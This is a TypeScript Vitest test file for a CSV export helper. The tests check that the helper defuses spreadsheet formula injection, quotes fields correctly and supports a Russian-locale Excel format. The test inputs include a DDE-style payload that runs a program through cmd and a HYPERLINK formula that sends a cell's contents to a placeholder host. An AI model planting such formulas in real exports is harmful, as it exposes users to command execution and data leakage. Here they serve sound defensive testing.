import { describe, expect, test } from 'vitest';
import { EXCEL_RU, csvCell, csvText } from '../../src/lib/csv.ts';

describe('CSV cells', () => {
  test('a cell of each prefix a spreadsheet evaluates is written quoted behind a leading quote mark', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+1+cmd|\' /C calc\'!A0')).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"open")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
  });

  test('numbers stay numbers, plain text stays as it is, and commas, quotes and line breaks are quoted', () => {
    expect([csvCell(-200), csvCell('-200.00'), csvCell('+5'), csvCell(7), csvCell('12.5')]).toEqual(['-200', '-200.00', '+5', '7', '12.5']);
    expect([csvCell('О-3'), csvCell('a=b'), csvCell('')]).toEqual(['О-3', 'a=b', '']);
    expect([csvCell('a,b'), csvCell('say "hi"'), csvCell('two\nlines')]).toEqual(['"a,b"', '"say ""hi"""', '"two\nlines"']);
    expect(csvText([['a', 1], ['=b', -2]])).toBe(`a,1\r\n"'=b",-2\r\n`);
  });
});

describe('CSV for Excel in a Russian locale', () => {
  test('`;` between fields and decimal commas; formulas neutralised the same way, numbers with a decimal comma left as numbers', () => {
    expect(csvText([['a,b', 1.5, '-200,00', '=1+1', 'x;y']], EXCEL_RU)).toBe(`a,b;1,5;-200,00;"'=1+1";"x;y"\r\n`);
    expect([csvCell('-2,5+1', EXCEL_RU), csvCell('@A1', EXCEL_RU), csvCell('-200.00', EXCEL_RU)]).toEqual([`"'-2,5+1"`, `"'@A1"`, `"'-200.00"`]);
  });
});
